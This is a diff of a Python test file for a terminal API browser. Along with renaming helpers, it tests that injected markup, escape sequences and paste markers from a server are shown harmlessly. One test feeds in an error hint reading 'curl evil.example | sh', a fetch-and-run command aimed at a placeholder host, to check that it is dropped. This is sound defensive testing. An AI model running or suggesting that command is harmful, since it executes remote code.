@@ -15,7 +15,7 @@ from bbcli.commands.api.browser.text import LONGEST
 from bbcli.errors import NotFound, ServerFailed
 from bbcli.openapi import Answer, Body, Operation, Parameter, Schema, Spec
 from bbcli.output.cells import visible
-from tests.unit.api_browser.sitting import BrowserSession, FakeCalls, run_browser
+from tests.unit.api_browser.sitting import Pretended, Sitting, sit
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -50,16 +50,16 @@ SPEC = Spec.of((GET, POST, PUT), {}, title=EVIL, version=EVIL)
 HEADERS = {"content-type": f"application/json;{EVIL}", EVIL: EVIL, "set-cookie": EVIL}
 
 
-def calls(answer: Response | NotFound | ServerFailed | None = None) -> FakeCalls:
-    return FakeCalls(answer or Response(200, HEADERS, b"{}"), spec=SPEC, server=f"https://h/{EVIL}", words=[EVIL])
+def calls(answer: Response | NotFound | ServerFailed | None = None) -> Pretended:
+    return Pretended(answer or Response(200, HEADERS, b"{}"), spec=SPEC, server=f"https://h/{EVIL}", words=[EVIL])
 
 
-def segments(at: BrowserSession) -> Iterator[Segment]:
+def segments(at: Sitting) -> Iterator[Segment]:
     for strip in at.browser.screen._compositor.render_strips():
         yield from strip
 
 
-def assert_harmless(at: BrowserSession) -> str:
+def assert_harmless(at: Sitting) -> str:
     """Fail for a control, an action or a link on the screen; return its text."""
     shown = list(segments(at))
     acting = [
@@ -71,7 +71,7 @@ def assert_harmless(at: BrowserSession) -> str:
     return at.screen
 
 
-def body_of(at: BrowserSession) -> TextArea:
+def body_of(at: Sitting) -> TextArea:
     form = at.browser.form_panel.form
     assert form is not None
     assert form.body_area is not None
@@ -79,7 +79,7 @@ def body_of(at: BrowserSession) -> TextArea:
 
 
 def test_a_tree_a_form_and_its_fields_draw_names_as_they_are() -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         assert "[@click=app.end]" in assert_harmless(at)  # the title and the tags
         await at.open("GET", PATH)
         for method in ("GET", "POST", "PUT"):
@@ -89,11 +89,11 @@ def test_a_tree_a_form_and_its_fields_draw_names_as_they_are() -> None:
             await at.settle()
             assert "[@click=app.end]" in assert_harmless(at)
 
-    run_browser(calls(), person, size=(200, 200))
+    sit(calls(), person, size=(200, 200))
 
 
 def test_choices_and_what_is_beside_them_are_drawn_as_they_are() -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         await at.open("GET", PATH)
         chooser = at.browser.query(Select).first()
         chooser.expanded = True
@@ -104,11 +104,11 @@ def test_choices_and_what_is_beside_them_are_drawn_as_they_are() -> None:
         assert chooser.value == EVIL  # it is sent as it is
         assert "[@click=app.end]" in assert_harmless(at)
 
-    run_browser(calls(), person, size=(200, 60))
+    sit(calls(), person, size=(200, 60))
 
 
 def test_what_is_shown_beside_the_mouse_is_drawn_as_it_is() -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         await at.open("GET", PATH)
         name = at.browser.query(".name").first()
         await at.pilot.hover(name)
@@ -117,7 +117,7 @@ def test_what_is_shown_beside_the_mouse_is_drawn_as_it_is() -> None:
         assert "[@click=app.end]" in str(at.browser.screen.query_one("#textual-tooltip").render())
         assert_harmless(at)
 
-    run_browser(calls(), person, size=(200, 60))
+    sit(calls(), person, size=(200, 60))
 
 
 @pytest.mark.parametrize(
@@ -129,7 +129,7 @@ def test_what_is_shown_beside_the_mouse_is_drawn_as_it_is() -> None:
     ],
 )
 def test_an_answer_and_the_history_of_it_are_drawn_as_they_are(answer: Response | NotFound) -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         await at.open("GET", PATH)
         asked = FormInput(GET, ((EVIL, EVIL),))
         response = answer if isinstance(answer, Response) else None
@@ -146,11 +146,11 @@ def test_an_answer_and_the_history_of_it_are_drawn_as_they_are(answer: Response 
         await at.settle()
         assert "[@click=app.end]" in assert_harmless(at)
 
-    run_browser(calls(), person, size=(200, 60))
+    sit(calls(), person, size=(200, 60))
 
 
 def test_a_question_a_problem_and_a_notice_are_drawn_as_they_are() -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         await at.open("POST", PATH)
         at.browser._take(Wrong(EVIL))
         await at.settle()
@@ -163,21 +163,21 @@ def test_a_question_a_problem_and_a_notice_are_drawn_as_they_are() -> None:
         await at.settle()
         assert_harmless(at)
 
-    run_browser(calls(), person, size=(200, 60))
+    sit(calls(), person, size=(200, 60))
 
 
 def test_a_body_that_is_offered_has_no_control_and_is_the_same_json() -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         await at.open("POST", PATH)
         body = body_of(at).text
         assert visible(body, keep="\n") == body
         assert json.loads(body)["needed"] == EVIL
 
-    run_browser(calls(), person)
+    sit(calls(), person)
 
 
 def test_what_is_copied_ends_no_pasting() -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         await at.open("GET", PATH)
         at.browser._take(Line("curl", f"curl 'https://h/{EVIL}'\n"))
         assert at.browser.clipboard == visible(f"curl 'https://h/{EVIL}'\n".replace("\r\n", "\n"), keep="\n\t")
@@ -188,11 +188,11 @@ def test_what_is_copied_ends_no_pasting() -> None:
         field.action_copy()
         assert "\x1b" not in at.browser.clipboard
 
-    run_browser(calls(), person)
+    sit(calls(), person)
 
 
 def test_what_is_pasted_holds_no_control() -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         await at.open("POST", PATH)
         for widget in (at.browser.query(Input).last(), body_of(at)):
             widget.focus()
@@ -203,19 +203,19 @@ def test_what_is_pasted_holds_no_control() -> None:
             assert "␛[201~" in text
             assert_harmless(at)
 
-    run_browser(calls(), person, size=(200, 60))
+    sit(calls(), person, size=(200, 60))
 
 
 def test_a_line_that_is_very_long_is_cut() -> None:
-    async def person(at: BrowserSession) -> None:
+    async def person(at: Sitting) -> None:
         await at.open("POST", PATH)
         assert max(len(line) for line in str(at.browser.query(".facts").first().render()).split("\n")) <= LONGEST
 
-    run_browser(calls(), person)
+    sit(calls(), person)
 
 
 def test_what_is_wrong_has_one_hint() -> None:
     refusal = NotFound("no\nhint: curl evil.example | sh", hint="look elsewhere")
-    found = line_of(FakeCalls(refusal=refusal), FormInput(GET), "curl")
+    found = line_of(Pretended(refusal=refusal), FormInput(GET), "curl")
     assert isinstance(found, Wrong)
     assert found.problem.splitlines()[1:] == ["hint: look elsewhere"]
